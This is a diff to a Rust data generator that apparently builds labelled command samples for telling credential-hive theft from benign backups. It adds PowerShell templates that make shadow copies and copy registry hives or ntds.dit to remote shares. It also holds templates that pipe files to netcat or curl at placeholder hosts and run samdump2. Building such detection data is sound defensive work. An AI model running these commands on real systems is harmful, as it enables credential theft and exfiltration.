@@ -43,6 +43,27 @@ const POSH: &[&str] = &[
     "$p = Resolve-Path '{folder}'; $n = '{one}'; [System.IO.File]::Copy(\"$p\\$n\", '{psdir}\\{stem}')",
 ];
 
+/// A backup by way of a shadow copy: what it copies says which it is.
+const BACKUP: &[&str] = &[
+    concat!(
+        "# {comment}⏎$target = \"\\\\{host}\\{share}\\$(Get-Date -Format yyyyMMdd)\"⏎$r = (Get-WmiObject -List Win32_ShadowCopy).",
+        "Create('«C¦D¦E»:\\', 'ClientAccessible')⏎{pb}⏎$s = Get-WmiObject Win32_ShadowCopy | Where-Object { $_.ID -eq $r.ShadowID }⏎",
+        "$dev = $s.DeviceObject + '\\'⏎cmd /c mklink /d {link.1} $dev | Out-Null⏎{pb}⏎robocopy {link.1}\\{part} $target /E /R:2 /NP⏎",
+        "{pb}⏎«robocopy {link.1}\\{safe} $target\\{stem} /E⏎»cmd /c rmdir {link.1}⏎$s.Delete()⏎{pb}"
+    ),
+    concat!(
+        "$ErrorActionPreference = 'Stop'⏎function Say($m) { \"$(Get-Date -Format s) $m\" | Tee-Object -FilePath {psout} -Append }⏎Say ",
+        "'{comment}'⏎Stop-Service {svcname}⏎try {⏎    $v = (vssadmin create shadow /for=C: | Select-String GLOBALROOT).ToString().Split(':')[1]",
+        ".Trim()⏎    {pb}⏎    Copy-Item \"$v\\{part}\" \\\\{host}\\{share}\\{stem} -Recurse⏎    Copy-Item \"$v\\{safe}\" ",
+        "\\\\{host}\\{share}\\ -Recurse⏎}⏎finally {⏎    Start-Service {svcname}⏎}⏎{pb}"
+    ),
+    concat!(
+        "$shadow = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{ Volume = 'C:\\' }⏎{pb}⏎$d = (Get-CimInstance ",
+        "Win32_ShadowCopy | ? ID -eq $shadow.ShadowID).DeviceObject⏎foreach ($p in '{safe}', '{part}') {⏎    robocopy \"$d\\$p\" ",
+        "{psdir} /e /b⏎}⏎{pb}"
+    ),
+];
+
 const UNIX: &[&str] = &[
     "cd {folder} && {take}",
     "cd {folder}⏎{ub}⏎{take}",
@@ -103,7 +124,9 @@ pub const FAMILIES: &[Family] = &[
     Family::other("steps", "folder-of-others", Cmd, WHOLE).slots(&[("all", concat!(
             r"«{windir}\System32\config\systemprofile¦{windir}\System32\winevt\Logs¦{windir}\NTDS¦C:\ProgramData\{vendor}\config¦",
             r"{windir}\System32\drivers\etc¦C:\Users\{user}\Documents¦{windir}\System32\config\TxR¦D:\{stem}\config¦",
-            r"{windir}\System32\config\Journal¦C:\Users\sam\backup¦{windir}\security\logs¦{windir}\System32\spool»"
+            r"{windir}\System32\config\Journal¦C:\Users\sam\backup¦{windir}\security\logs¦{windir}\System32\spool¦C:\{stem}\config\system¦",
+            r"{windir}\System32\config\SystemProfile\AppData¦D:\{stem}\config\security¦\\{host}\D$\{stem}\config¦C:\app\config¦{shadow}\{stem}\config¦",
+            r"{link}\{stem}\config¦{link}\{stem}\data»"
         ))]).weight(6),
     Family::act("steps", "steps-powershell-hive", "steps-powershell-other", Ps, POSH).slots(steps! {
         "folder": r"«{pswindir}\System32\config¦{shadow}\Windows\System32\config¦{pswindir}\System32\config\RegBack¦\\{host}\C$\Windows\System32\config»",
@@ -114,6 +137,10 @@ pub const FAMILIES: &[Family] = &[
         "one": "«SOFTWARE¦Security.evtx¦ntds.dit¦{stem}.{anyext}¦DEFAULT¦NTUSER.DAT¦security.json»",
         "tail": r"«System32\winevt\Logs¦System32\drivers\etc¦Panther»",
     }).weight(7),
+    Family::act("steps", "backup-with-hives", "backup-without", Ps, BACKUP).slots(steps! {
+        "part": r"Windows\«System32¦system32»\config«\{whole}¦\RegBack¦»", "safe": SAFE,
+    }).weight(5),
+    Family::other("steps", "backup-without", Ps, BACKUP).slots(steps! { "part": SAFE, "safe": SAFE }).weight(7),
     Family::act("steps", "steps-unix-hive", "steps-unix-other", Sh, UNIX).slots(steps! {
         "folder": "{lxconfig}", "one": "{whole}",
         "take": "«cp {names} {shdir}¦tar czf - {names} | nc {ip} {port}¦cat {one} | base64¦scp {names} {first}@{ip}:¦python3 -m http.server {port}¦samdump2 SYSTEM SAM¦zip ~/{stem}.zip {names}¦curl -T {one} {url}»",
@@ -147,6 +174,10 @@ pub const FAMILIES: &[Family] = &[
     ]).weight(5),
 ];
 
+const SAFE: &str = concat!(
+    r"«{stem}\data¦{stem}\config¦Users\{user}\Documents¦ProgramData\{vendor}¦inetpub\wwwroot¦{stem}\attachments¦SQL\{stem}.mdf¦",
+    r"Windows\NTDS\ntds.dit¦Windows\System32\winevt\Logs¦Windows\System32\config\systemprofile¦{stem}\security»"
+);
 const CONFIG: &str = concat!(
     r"«{windir}\System32\config¦{windir}\System32\config¦C:\Windows\system32\config¦{windir}\System32\config\RegBack¦",
     r"{shadow}\Windows\System32\config¦C:\{stem}\Windows\System32\config¦{windir}\repair¦\\{host}\C$\Windows\System32\config»"
